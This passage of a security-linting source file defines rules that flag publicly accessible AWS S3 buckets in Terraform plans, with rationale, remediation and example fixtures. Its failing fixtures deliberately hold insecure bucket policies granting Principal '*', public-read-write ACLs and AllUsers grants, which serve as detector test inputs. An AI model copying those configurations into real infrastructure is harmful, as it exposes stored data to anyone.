        # aws_s3_bucket computes `policy` (provider v4+) when the configuration does not set it.
        let unset = type(r) == "aws_s3_bucket" and exists(r.provider.key) and not exists(r.config.policy) and is_unknown(r.after.policy)
        when not unset
        # A policy rendered at apply from an `aws_iam_policy_document` data source (its `json` unknown
        # until apply): the data source's statements, as far as the plan knows them.
        let documents = filter(d in r -> references, type(d) == "aws_iam_policy_document"
          and any(x in r.config.policy.references, x == "data.aws_iam_policy_document." + d.name
            or starts_with(x, "data.aws_iam_policy_document." + d.name + ".")))
        let judged = first(flatten([filter(p in [r.after.policy], known(p)), map(d in documents, d.values), [r.after.policy]]))
        # The statements that grant access to anyone; unknown when the policy is rendered at apply (or
        # is not a JSON document) and nothing known in it is public.
        let public = public_statements(judged)
        require is_unknown(public) or count(public) == 0
          else "'${r.address}' has a policy statement (${first(public).name}) that ${first(public).why}" at first(public)
        require known(public) or count(public) == 0
          else "cannot tell whether '${r.address}' is public: its policy is unknown until apply or not a JSON policy document" at r.after.policy

        example pass "named principal, and a Deny for everyone" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Statement\":[{\"Action\":\"s3:GetObject\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:role/reader\"},\"Resource\":\"arn:aws:s3:::acme-b/*\"},{\"Action\":\"s3:*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"false\"}},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Resource\":\"arn:aws:s3:::acme-b/*\"}],\"Version\":\"2012-10-17\"}"}}}]}
        """
        example pass "public principal restricted by a condition" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [{\n    \"Effect\": \"Allow\",\n    \"Principal\": \"*\",\n    \"Action\": \"s3:GetObject\",\n    \"Resource\": \"arn:aws:s3:::acme-b/*\",\n    \"Condition\": {\"StringEquals\": {\"aws:SourceVpce\": \"vpce-1a2b3c4d\"}}\n  }]\n}\n"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\"Statement\":[{\"Action\":\"s3:GetObject\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::111122223333:root\"},\"Resource\":\"arn:aws:s3:::acme-b/*\"},{\"Action\":\"*\",\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\"*\"]},\"Resource\":\"arn:aws:s3:::acme-b/*\"}],\"Version\":\"2012-10-17\"}"}}},
            {"address": "aws_s3_bucket.legacy", "mode": "managed", "type": "aws_s3_bucket", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {},
               "after": {"bucket": "acme-legacy", "policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme-legacy/*\"}}"}}}]}
        """ expect "'aws_s3_bucket_policy.b' has a policy statement (#2) that allows Principal '*' without a Condition"
            expect "'aws_s3_bucket.legacy' has a policy statement"
        example pass "conditions that bind the caller or its network, in several spellings" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_policy.vpce", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "vpce",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"StringEquals\":{\"aws:SourceVpce\":[\"vpce-1a2b3c4d\",\"vpce-5e6f7a8b\"]}}}]}"}}},
            {"address": "aws_s3_bucket_policy.org", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "org",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"*\"},\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"ForAnyValue:StringLike\":{\"aws:PrincipalOrgPaths\":\"o-a1b2c3d4e5/r-ab12/ou-ab12-11111111/*\"}}}]}"}}},
            {"address": "aws_s3_bucket_policy.cloudfront", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "cloudfront",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\n\t\"Version\": \"2012-10-17\",\n\t\"Statement\": [\n\t\t{\n\t\t\t\"Effect\": \"Allow\",\n\t\t\t\"Principal\": {\n\t\t\t\t\"Service\": \"cloudfront.amazonaws.com\"\n\t\t\t},\n\t\t\t\"Action\": \"s3:GetObject\",\n\t\t\t\"Resource\": \"arn:aws:s3:::acme/*\"\n\t\t},\n\t\t{\n\t\t\t\"Effect\": \"Allow\",\n\t\t\t\"Principal\": \"*\",\n\t\t\t\"Action\": \"s3:GetObject\",\n\t\t\t\"Resource\": \"arn:aws:s3:::acme/*\",\n\t\t\t\"Condition\": {\n\t\t\t\t\"ArnLike\": {\n\t\t\t\t\t\"AWS:SourceArn\": \"arn:aws:cloudfront::111122223333:distribution/E2QWRUHEXAMPLE\"\n\t\t\t\t},\n\t\t\t\t\"Bool\": {\n\t\t\t\t\t\"aws:SecureTransport\": \"true\"\n\t\t\t\t}\n\t\t\t}\n\t\t}\n\t]\n}"}}},
            {"address": "aws_s3_bucket_policy.office", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "office",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":[\"*\"],\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"IpAddress\":{\"aws:SourceIp\":[\"192.0.2.0/24\",\"2001:db8::/32\"]}}}]}"}}},
            {"address": "aws_s3_bucket_policy.account", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "account",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"stringequals\":{\"aws:principalaccount\":111122223333}}}]}"}}}]}
        """
        example fail "conditions that do not restrict who can call" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_policy.tls_only", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "tls_only",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"Bool\":{\"aws:SecureTransport\":\"true\"}}}]}"}}},
            {"address": "aws_s3_bucket_policy.negated", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "negated",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\n\t\"Version\": \"2012-10-17\",\n\t\"Statement\": [\n\t\t{\n\t\t\t\"Effect\": \"Allow\",\n\t\t\t\"Principal\": \"*\",\n\t\t\t\"Action\": \"s3:GetObject\",\n\t\t\t\"Resource\": \"arn:aws:s3:::acme/*\",\n\t\t\t\"Condition\": {\n\t\t\t\t\"StringNotEquals\": {\n\t\t\t\t\t\"aws:SourceVpce\": \"vpce-1a2b3c4d\"\n\t\t\t\t}\n\t\t\t},\n\t\t\t\"Sid\": \"NotFromVpce\"\n\t\t}\n\t]\n}"}}},
            {"address": "aws_s3_bucket_policy.if_exists", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "if_exists",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\"*\"]},\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"StringEqualsIfExists\":{\"aws:SourceVpce\":\"vpce-1a2b3c4d\"}}}]}"}}},
            {"address": "aws_s3_bucket_policy.any_org", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "any_org",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\n\t\"Version\": \"2012-10-17\",\n\t\"Statement\": [\n\t\t{\n\t\t\t\"Effect\": \"Allow\",\n\t\t\t\"Principal\": \"*\",\n\t\t\t\"Action\": \"s3:GetObject\",\n\t\t\t\"Resource\": \"arn:aws:s3:::acme/*\",\n\t\t\t\"Condition\": {\n\t\t\t\t\"StringLike\": {\n\t\t\t\t\t\"aws:PrincipalOrgID\": \"o-*\"\n\t\t\t\t}\n\t\t\t}\n\t\t}\n\t]\n}"}}},
            {"address": "aws_s3_bucket_policy.all_values", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "all_values",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme/*\",\"Condition\":{\"ForAllValues:StringEquals\":{\"aws:SourceVpc\":\"vpc-111bbb22\"}}}]}"}}},
            {"address": "aws_s3_bucket_policy.anywhere", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "anywhere",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\n\t\"Version\": \"2012-10-17\",\n\t\"Statement\": [\n\t\t{\n\t\t\t\"Effect\": \"Allow\",\n\t\t\t\"Principal\": \"*\",\n\t\t\t\"Action\": \"s3:GetObject\",\n\t\t\t\"Resource\": \"arn:aws:s3:::acme/*\",\n\t\t\t\"Condition\": {\n\t\t\t\t\"IpAddress\": {\n\t\t\t\t\t\"aws:SourceIp\": \"0.0.0.0/0\"\n\t\t\t\t},\n\t\t\t\t\"StringLike\": {\n\t\t\t\t\t\"aws:UserAgent\": \"*Mozilla*\"\n\t\t\t\t}\n\t\t\t}\n\t\t}\n\t]\n}"}}},
            {"address": "aws_s3_bucket_policy.not_principal", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "not_principal",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"bucket": true},
               "after": {"policy": ↓"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"NotPrincipal\":{\"AWS\":\"arn:aws:iam::111122223333:root\"},\"Action\":\"s3:*\",\"Resource\":\"arn:aws:s3:::acme/*\"}]}"}}}]}
        """ expect "'aws_s3_bucket_policy.tls_only' has a policy statement (#1) that allows Principal '*' with conditions that do not restrict who can call (aws:SecureTransport)"
            expect "'aws_s3_bucket_policy.negated' has a policy statement ('NotFromVpce') that allows Principal '*' with conditions that do not restrict who can call (aws:SourceVpce)"
            expect "'aws_s3_bucket_policy.if_exists' has a policy statement (#1) that allows Principal '*' with conditions"
            expect "'aws_s3_bucket_policy.any_org' has a policy statement (#1) that allows Principal '*' with conditions that do not restrict who can call (aws:PrincipalOrgID)"
            expect "'aws_s3_bucket_policy.all_values'"
            expect "'aws_s3_bucket_policy.anywhere' has a policy statement (#1) that allows Principal '*' with conditions that do not restrict who can call (aws:SourceIp, aws:UserAgent)"
            expect "'aws_s3_bucket_policy.not_principal' has a policy statement (#1) that allows every principal but those in NotPrincipal without a Condition"
        example fail "policy rendered at apply from an aws_iam_policy_document whose statements the plan knows" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "data.aws_iam_policy_document.public_read", "mode": "data", "type": "aws_iam_policy_document", "name": "public_read",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["read"], "before": null,
               "after": {"statement": [↓{"sid": "PublicRead", "effect": "Allow", "actions": ["s3:GetObject"],
                                        "principals": [{"type": "*", "identifiers": ["*"]}],
                                        "condition": [{"test": "Bool", "variable": "aws:SecureTransport", "values": ["true"]}]}]},
               "after_unknown": {"id": true, "json": true, "statement": [{"resources": true}]}}},
            {"address": "aws_s3_bucket_policy.site", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"bucket": true, "policy": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_policy.site", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "site",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.site.id", "aws_s3_bucket.site"]},
                             "policy": {"references": ["data.aws_iam_policy_document.public_read.json", "data.aws_iam_policy_document.public_read"]}}},
            {"address": "data.aws_iam_policy_document.public_read", "mode": "data", "type": "aws_iam_policy_document", "name": "public_read",
             "expressions": {"statement": [{"sid": {"constant_value": "PublicRead"}}]}}]}}}
        """ expect "'aws_s3_bucket_policy.site' has a policy statement ('PublicRead') that allows Principal '*' with conditions that do not restrict who can call (aws:SecureTransport)"
        example pass "policy rendered at apply from an aws_iam_policy_document bound to a VPC endpoint" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "data.aws_iam_policy_document.vpce", "mode": "data", "type": "aws_iam_policy_document", "name": "vpce",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["read"], "before": null,
               "after": {"statement": [{"effect": "Allow", "actions": ["s3:GetObject"],
                                        "principals": [{"type": "AWS", "identifiers": ["*"]}],
                                        "condition": [{"test": "StringEquals", "variable": "aws:sourceVpce", "values": ["vpce-1a2b3c4d"]}]}]},
               "after_unknown": {"id": true, "json": true, "statement": [{"resources": true}]}}},
            {"address": "aws_s3_bucket_policy.internal", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "internal",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"bucket": true, "policy": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_policy.internal", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "internal",
             "expressions": {"policy": {"references": ["data.aws_iam_policy_document.vpce.json", "data.aws_iam_policy_document.vpce"]}}},
            {"address": "data.aws_iam_policy_document.vpce", "mode": "data", "type": "aws_iam_policy_document", "name": "vpce",
             "expressions": {}}]}}}
        """
        example indeterminate "policy rendered at apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_policy.b", "mode": "managed", "type": "aws_s3_bucket_policy", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {}, "after_unknown": {"bucket": true, "policy": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_public_access_block_missing.plumb",
      text: #"""
      rule s3_bucket_public_access_block_missing {
        title "S3 buckets have a public access block"
        severity high
        category security
        tags [terraform, aws, s3, public-access]
        rationale """
          Without an `aws_s3_bucket_public_access_block`, one careless ACL (`public-read`) or bucket
          policy (`"Principal": "*"`) publishes the bucket's objects to the internet; leaked backups and
          customer exports found by bucket scanners almost always start this way. The block makes S3
          refuse public ACLs and policies, whatever later changes say.
        """
        remediation """
          Add `resource "aws_s3_bucket_public_access_block"` for the bucket with `bucket =
          aws_s3_bucket.<name>.id` and all four flags (`block_public_acls`, `block_public_policy`,
          `ignore_public_acls`, `restrict_public_buckets`) set to true; or block public access for the
          whole account with `aws_s3_account_public_access_block`.
        """

        for b in terraform.resource("aws_s3_bucket")
        # Resources being destroyed have no planned state.
        when not is_null(b.after)
        # The bucket as a module-relative reference, as the block's `bucket` expression names it.
        let ref = "aws_s3_bucket." + b.name
        # A bucket whose name is known only after apply cannot be named literally by another resource.
        let by_name = known(b.after.bucket) and count(terraform.resource("aws_s3_bucket_public_access_block")[after.bucket == b.after.bucket]) > 0
        # Blocks whose `bucket` expression references the bucket (edges of the plan's configuration:
        # same plan, same module instance).
        let by_ref = count(filter(x in b -> referencedBy, type(x) == "aws_s3_bucket_public_access_block" and ref in x.config.bucket.references))
        # The account-level block in the same plan covers every bucket (found once per run, then by file).
        let account = count(filter(a in terraform.resource("aws_s3_account_public_access_block")[after.block_public_acls == true], file(a) == file(b)))
        # Blocks whose bucket is known only after apply and that do not name a bucket resource
        # (`bucket = var.bucket_id`): any of them may be this bucket's. The lookup does not depend on the
        # bucket, so it is computed once per run; each bucket then only looks at those blocks.
        let unattributed = terraform.resource("aws_s3_bucket_public_access_block")[change.after_unknown.bucket == true and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
        # One of them stands for all when one is in this bucket's plan (`any` stops at the first): their
        # buckets are all unknown, so each makes the requirement unknown, with the same evidence.
        let opaque = filter(p in [first(unattributed)], any(q in unattributed, file(q) == file(b)))
        require by_ref > 0 or account > 0 or by_name or any(p in opaque, p.after.bucket == b.after.bucket)
          else "'${b.address}' has no aws_s3_bucket_public_access_block" at b.address

        example pass "block referencing the bucket" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs"}, "after_unknown": {"id": true}}},
            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"block_public_acls": true, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true},
               "after_unknown": {"bucket": true, "id": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
             "expressions": {"bucket": {"constant_value": "acme-logs"}}},
            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.logs.id", "aws_s3_bucket.logs"]}}}]}}}
        """
        example pass "block naming the bucket" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.logs", "mode": "managed", "type": "aws_s3_bucket", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs"}, "after_unknown": {}}},
            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-logs", "block_public_acls": true}, "after_unknown": {}}}]}
        """
        example fail """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": ↓"aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-exports"}, "after_unknown": {"id": true}}},
            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"block_public_acls": true}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_public_access_block.logs", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "logs",
             "expressions": {"bucket": {"references": ["aws_s3_bucket.logs.id", "aws_s3_bucket.logs"]}}}]}}}
        """ expect "'aws_s3_bucket.exports' has no aws_s3_bucket_public_access_block"
        example indeterminate "a block whose bucket comes from a variable" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-exports"}, "after_unknown": {"id": true}}},
            {"address": "aws_s3_bucket_public_access_block.any", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"block_public_acls": true}, "after_unknown": {"bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_public_access_block.any", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "any",
             "expressions": {"bucket": {"references": ["var.bucket_id"]}}}]}}}
        """
        example fail "a block whose bucket comes from a variable, in another plan" {
          file "dev/plan.tfplan.json" """
            {"format_version": "1.2",
             "resource_changes": [
              {"address": ↓"aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-exports"}, "after_unknown": {"id": true}}}]}
          """
          file "prod/plan.tfplan.json" """
            {"format_version": "1.2",
             "resource_changes": [
              {"address": "aws_s3_bucket_public_access_block.any", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "any",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null, "after": {"block_public_acls": true}, "after_unknown": {"bucket": true}}}],
             "configuration": {"root_module": {"resources": [
              {"address": "aws_s3_bucket_public_access_block.any", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "any",
               "expressions": {"bucket": {"references": ["var.bucket_id"]}}}]}}}
          """
        } expect "'aws_s3_bucket.exports' has no aws_s3_bucket_public_access_block"
        example fail "module instances: each bucket has only its own block" """
          {"format_version": "1.2",
           "resource_changes": [
            {"address": "module.s3[\"a\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-a"}, "after_unknown": {"id": true}}},
            {"address": "module.s3[\"a\"].aws_s3_bucket_public_access_block.this[0]", "module_address": "module.s3[\"a\"]", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"block_public_acls": true, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true}, "after_unknown": {"bucket": true, "id": true}}},
            {"address": ↓"module.s3[\"b\"].aws_s3_bucket.this[0]", "module_address": "module.s3[\"b\"]", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "index": 0,
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b"}, "after_unknown": {"id": true}}}],
           "configuration": {"root_module": {"module_calls": {"s3": {"source": "./modules/s3", "for_each_expression": {"references": ["var.buckets"]},
             "module": {"resources": [
              {"address": "aws_s3_bucket.this", "mode": "managed", "type": "aws_s3_bucket", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["var.name"]}}, "count_expression": {"constant_value": 1}},
              {"address": "aws_s3_bucket_public_access_block.this", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "this", "provider_config_key": "aws",
               "expressions": {"bucket": {"references": ["aws_s3_bucket.this[0].id", "aws_s3_bucket.this[0]", "aws_s3_bucket.this"]}, "block_public_acls": {"constant_value": true}},
               "count_expression": {"references": ["var.enabled"]}}]}}}}}}
        """ expect "'module.s3[\"b\"].aws_s3_bucket.this[0]' has no aws_s3_bucket_public_access_block"
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/aws/s3_bucket_public_acl.plumb",
      text: #"""
      rule s3_bucket_public_acl {
        title "S3 bucket ACLs do not grant access to everyone"
        severity critical
        category security
        tags [terraform, aws, s3, public-access]
        rationale """
          The canned ACLs `public-read`, `public-read-write` and `authenticated-read`, and grants to the
          `AllUsers` or `AuthenticatedUsers` groups, let anyone on the internet (or anyone with any AWS
          account) list and download the bucket's objects, and with write access, plant or overwrite
          them. Automated scanners enumerate bucket names continuously; most public S3 data leaks are a
          bucket ACL like this one.
        """
        remediation """
          Use `acl = "private"` (or no ACL at all, with `object_ownership = "BucketOwnerEnforced"` on
          `aws_s3_bucket_ownership_controls`) and remove grants to the AllUsers and AuthenticatedUsers
          groups. Serve public content through CloudFront with an origin access control instead.
        """
        param public_acls: list<string> = ["public-read", "public-read-write", "authenticated-read"]
        param public_groups: pattern = "acs\\.amazonaws\\.com/groups/global/(AllUsers|AuthenticatedUsers)"

        for r in terraform.resource("aws_s3_bucket", "aws_s3_bucket_acl")
        when not is_null(r.after)
        let acl = r.after.acl
        # Provider v4+ computes `acl` and `grant` when the configuration does not set them: such an
        # unknown value is the bucket's existing (private by default) ACL, not a planned public one.
        let configured = exists(r.provider.key)
        let acl_unset = configured and not exists(r.config.acl) and is_unknown(acl)
        let grants = flatten([default(r.after.grant, []), flatten(map(p in default(r.after.access_control_policy, []), default(p.grant, [])))])
        # Grants computed from a known canned ACL (checked above) or from none configured.
        let grants_unset = (is_unknown(r.after.grant) or is_unknown(r.after.access_control_policy))
          and ((known(acl) and not is_empty(acl)) or (configured and not exists(r.config.grant) and not exists(r.config.access_control_policy)))
        let public = filter(g in grants, g.uri matches param.public_groups or any(e in g.grantee, e.uri matches param.public_groups))
        require acl_unset or acl not in param.public_acls
          else "'${r.address}' sets the canned ACL '${acl}', which opens the bucket to everyone" at acl
        require grants_unset or count(public) == 0
          else "'${r.address}' grants ${join(flatten(map(g in public, [default(g.permission, join(default(g.permissions, []), ", "))])), ", ")} to '${replace(default(first(public).uri, first(first(public).grantee).uri), "http://acs.amazonaws.com/groups/global/", "")}'" at first(public)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-b", "acl": "private", "grant": []}, "after_unknown": {}}},
            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"acl": "log-delivery-write"}, "after_unknown": {"access_control_policy": true, "bucket": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b", "provider_config_key": "aws",
             "expressions": {"acl": {"constant_value": "log-delivery-write"}, "bucket": {"references": ["aws_s3_bucket.b.id", "aws_s3_bucket.b"]}}}]}}}
        """
        example fail "canned ACLs" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket.site", "mode": "managed", "type": "aws_s3_bucket", "name": "site",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-site", "acl": ↓"public-read", "grant": []}, "after_unknown": {}}},
            {"address": "aws_s3_bucket_acl.drop", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "drop",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null, "after": {"acl": ↓"public-read-write"}, "after_unknown": {"access_control_policy": true, "bucket": true}}}]}
        """ expect "'aws_s3_bucket.site' sets the canned ACL 'public-read'" expect "'aws_s3_bucket_acl.drop' sets the canned ACL 'public-read-write'"
        example fail "grant to AllUsers" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "aws_s3_bucket_acl.b", "mode": "managed", "type": "aws_s3_bucket_acl", "name": "b",
             "provider_name": "registry.terraform.io/hashicorp/aws",
             "change": {"actions": ["create"], "before": null,
               "after": {"acl": null, "access_control_policy": [{"grant": [
                 {"grantee": [{"type": "CanonicalUser", "id": "abc", "uri": null}], "permission": "FULL_CONTROL"},
                 ↓{"grantee": [{"type": "Group", "id": null, "uri": "http://acs.amazonaws.com/groups/global/AllUsers"}], "permission": "READ"}]}]},
               "after_unknown": {"bucket": true}}}]}
